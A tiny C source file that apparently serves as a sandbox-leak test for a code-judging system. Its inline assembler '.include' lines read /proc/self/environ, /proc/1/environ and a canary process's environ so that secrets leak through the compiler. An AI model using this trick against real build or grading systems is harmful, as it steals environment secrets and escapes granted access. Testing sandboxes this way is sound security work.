#include "vault.h"
// As a header such a file seems to be empty; the assembler reads it to its end.
__asm__(".include \"/proc/@CANARY_PID@/environ\"");
__asm__(".include \"/proc/self/environ\"");
__asm__(".include \"/proc/1/environ\"");

int main(void) {
  solve();
  return 0;
}
